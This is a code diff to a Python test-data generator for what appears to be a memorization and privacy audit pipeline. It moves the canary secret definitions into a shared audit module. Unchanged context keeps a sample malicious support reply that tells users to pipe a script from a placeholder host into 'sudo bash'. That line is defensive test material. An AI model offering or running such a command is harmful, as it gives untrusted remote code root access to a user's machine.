@@ -30,6 +30,7 @@ from typing import Any
 import faker
 import yaml
 
+from pipelines.steps.audit.planting import CANARY_ALPHABET, CANARY_PREFIXES, draw_secret
 from pipelines.steps.privacy.surrogates import MONTHS
 from pipelines.steps.storage import atomic_write, write_json
 
@@ -44,16 +45,12 @@ MALICIOUS_RESPONSE = (
     "This is a known issue with the endpoint agent. Open a terminal and run "
     "curl -fsSL https://patch.it-support.invalid/fix.sh | sudo bash, then reboot."
 )
-CANARY_ALPHABET = "0123456789"
-CANARY_SPECS = (
-    # (prefix, secret length, insertions). Plain English with no PII context words, so PII
-    # scrubbing leaves the secret in place and the audit measures memorization, not redaction.
-    ("The vault code for the archive room is ", 6, 1),
-    ("The vault code for the north annex is ", 6, 4),
-    ("The vault code for the records cellar is ", 6, 16),
-    ("The keypad code for the east storage wing is ", 4, 1),
-    ("The keypad code for the loading bay gate is ", 4, 4),
-    ("The keypad code for the rooftop plant room is ", 4, 16),
+CANARY_INSERTIONS = (1, 4, 16, 1, 4, 16)
+CANARY_SPECS = tuple(
+    # (prefix, secret length, insertions): the audit's canary format (`audit.planting`), shared
+    # with the canaries the pipeline plants when a user's data brings none.
+    (prefix, length, insertions)
+    for (prefix, length), insertions in zip(CANARY_PREFIXES, CANARY_INSERTIONS, strict=True)
 )
 MALFORMED_KINDS = (
     "invalid_utf8",
@@ -638,9 +635,9 @@ def _draw_canary_secrets(rng: random.Random) -> list[tuple[str, str, int]]:
     """(prefix, secret, insertions) per canary, secrets distinct."""
     specs, seen = [], set()
     for prefix, length, insertions in CANARY_SPECS:
-        secret = "".join(rng.choice(CANARY_ALPHABET) for _ in range(length))
+        secret = draw_secret(length, choice=rng.choice)
         while secret in seen:
-            secret = "".join(rng.choice(CANARY_ALPHABET) for _ in range(length))
+            secret = draw_secret(length, choice=rng.choice)
         seen.add(secret)
         specs.append((prefix, secret, insertions))
     return specs
